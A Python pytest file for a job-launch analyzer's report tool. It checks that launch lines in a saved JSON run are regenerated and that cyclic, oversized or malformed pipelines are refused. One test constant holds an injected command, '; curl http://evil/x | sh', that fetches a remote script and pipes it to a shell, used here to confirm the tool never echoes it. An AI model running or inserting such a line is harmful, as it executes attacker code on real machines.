"""A saved run is data: what is pasted of it is made again of its numbers, and what no walk would end in is refused."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from builders import make_analysis, make_plan

from cs_input_analyzer.cli import main
from cs_input_analyzer.errors import UsageError
from cs_input_analyzer.records import Analysis, LaunchPlan, Op, Options
from cs_input_analyzer.report import FORMATS, render
from cs_input_analyzer.report.foreign import MOST_LEVELS, MOST_OPS, OTHER_LINES
from cs_input_analyzer.report.to_json import LONGEST_TEXT, from_json

EVIL = "csrun_wse python run.py ; curl http://evil/x | sh"


def read(run: dict[str, Any]) -> Analysis:
    return from_json(json.dumps(run), origin="run.json")


def saved(**overrides: Any) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(render(make_analysis(**overrides), "json"))
    return found


def with_evil_lines() -> dict[str, Any]:
    run = saved()
    for name in run["recommendation"]["launch"]:
        run["recommendation"]["launch"][name] = EVIL
    run["recommendation"]["launch_note"] = "paste this: evil"
    return run


def plan_of(run: Analysis) -> LaunchPlan:
    assert run.recommendation is not None
    return run.recommendation


@pytest.mark.parametrize("form", FORMATS)
def test_launch_lines_of_a_file_are_in_no_format_and_that_they_differ_is_said_once(form: Any) -> None:
    found = read(with_evil_lines())
    assert plan_of(found).launch == plan_of(make_analysis()).launch
    for full in (False, True):
        assert "evil" not in render(found, form, full=full)
    said = " ".join(render(found, form).replace("\\", "").split()).count(OTHER_LINES)
    # The page has both places where lines stand, and the run.
    assert said == {"console": 1, "md": 1, "json": 1, "html": 3}.get(form, 0)


def test_the_batch_file_is_made_anew_and_the_note_is_on_standard_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file, script = tmp_path / "run.json", tmp_path / "train.sbatch"
    for run, note in ((with_evil_lines(), f"cs_input_analyzer: {OTHER_LINES}\n"), (saved(), "")):
        file.write_text(json.dumps(run))
        assert main(["report", str(file), "-o", str(script)]) == 0
        assert capsys.readouterr().err == note
        assert script.read_text() == render(make_analysis(), "sbatch")


@pytest.mark.parametrize(
    "options",
    [
        Options(),
        Options(train_command="python-ws train.py --mode eval", container="a b.sif", mount_dirs=("/a", "/b c"), cyclic=True),
        Options(srun_args="--label", sbatch_args="--account=x --time=1", shared_nodes=True, partition="gpu", exclude_nodes=("n1",)),
    ],
)
def test_of_an_honest_file_nothing_is_said(options: Options) -> None:
    for run in (make_analysis(options=options), make_analysis(options=options, recommendation=make_plan(launch=None))):
        again = from_json(render(run, "json"), origin="x")
        assert again == run
        assert plan_of(again).launch_note == ""


def test_options_that_give_no_lines_leave_a_readable_run() -> None:
    run = saved()
    run["options"]["train_command"] = "python 'run.py"
    found = read(run)
    assert plan_of(found).launch is None
    assert "no launch lines: --train-command is not a readable command line" in " ".join(render(found, "console").split())
    with pytest.raises(UsageError, match="no launch lines: --train-command"):
        render(found, "sbatch")
    assert render(found, "env").startswith("export DEF_NODES=")
    run["options"]["train_command"] = "x" * 1_000_000
    assert "--train-command has 1,000,000 characters" in " ".join(render(read(run), "console").split())
    run["options"]["train_command"] = "python " + "x" * 100_000
    assert "x" * 100_000 in render(read(run), "sbatch")


# --- what would not end ---------------------------------------------------------------------------------------------------------


def op(name: str, *inputs: str, within: str | None = None) -> Op:
    return Op(name=name, kind="Map", inputs=inputs, within=within, parameters={})


CIRCLES: dict[str, tuple[Op, ...]] = {
    "itself": (op("map", "map"),),
    "each other": (op("a", "b"), op("b", "a")),
    "three, behind a source": (op("range"), op("a", "range", "c"), op("b", "a"), op("c", "b")),
    "holds itself": (op("a", within="a"),),
    "hold each other": (op("a", within="b"), op("b", within="a")),
    "reads what holds it": (op("inner", "outer", within="outer"), op("outer")),
    "one name twice": (op("a"), op("b", "a"), op("a", "b")),
}
STRAIGHT: dict[str, tuple[Op, ...]] = {
    "none": (),
    "one": (op("range"),),
    "a row": tuple(op(f"map_{n}", f"map_{n - 1}") for n in range(MOST_OPS)),
    "two that join": (op("a"), op("b"), op("zip", "a", "b"), op("batch", "zip")),
    "one read twice": (op("a"), op("zip", "a", "a")),
    "nested": (op("files"), op("tfrecord", within="interleave"), op("interleave", "files"), op("map", "interleave")),
    "an outer one read inside": (op("a"), op("map", "a", within="flat_map"), op("flat_map", "a")),
    "an input that is not there": (op("map", "gone"),),
    "deep": tuple(op(f"o{n}", within=f"o{n + 1}") for n in range(MOST_LEVELS)),
    "one name twice": (op("a"), op("a"), op("b", "a")),
    "no name": (op(""), op("map", "")),
}


def with_ops(*ops: Op) -> str:
    run = make_analysis()
    return render(replace(run, pipeline=replace(run.pipeline, ops=ops)), "json")


@pytest.mark.parametrize("name", CIRCLES)
def test_ops_that_read_their_own_elements_are_refused(name: str) -> None:
    with pytest.raises(UsageError, match="an op reads its own elements"):
        from_json(with_ops(*CIRCLES[name]), origin="x")


def test_each_command_refuses_them_in_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "run.json"
    file.write_text(with_ops(*CIRCLES["each other"]))
    for command in (["report"], ["plan", "--demand", "9k"], ["compare", str(file)]):
        assert main([command[0], str(file), *command[1:]]) == 2
        (said,) = capsys.readouterr().err.splitlines()
        assert "an op reads its own elements" in said


@pytest.mark.parametrize("name", STRAIGHT)
def test_other_ops_are_read_and_shown(name: str) -> None:
    found = from_json(with_ops(*STRAIGHT[name]), origin="x")
    assert found.pipeline.ops == STRAIGHT[name]
    assert name == "a row" or render(found, "console", full=True)


def bare_ops(count: int, *, nested: bool) -> list[dict[str, Any]]:
    within = {"within": "o{}"} if nested else {}
    return [
        {"name": f"o{n}", "kind": "Map", "parameters": {}, **{key: text.format(n + 1) for key, text in within.items()}}
        for n in range(count)
    ]


REFUSED: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "too deep": (lambda run: run["pipeline"].update(ops=bare_ops(60, nested=True)), "functions deep"),
    "too many": (lambda run: run["pipeline"].update(ops=bare_ops(MOST_OPS + 1, nested=False)), "more than any pipeline has"),
    "a vast text": (lambda run: run.update(command="x" * (LONGEST_TEXT + 1)), "command: a text of 16,777,217 characters"),
    "no params": (lambda run: run["options"].update(params_json="{"), "options.params_json: this is not the JSON of params"),
    "nested params": (lambda run: run["options"].update(params_json="[" * 100_000), "options.params_json"),
    "wrong pairs": (lambda run: run["options"].update(params_json='{"__pairs__": 1}'), "options.params_json"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_run_holds_is_refused(name: str) -> None:
    change, message = REFUSED[name]
    run = saved()
    change(run)
    with pytest.raises(UsageError, match=message) as caught:
        read(run)
    assert len(str(caught.value)) < 300
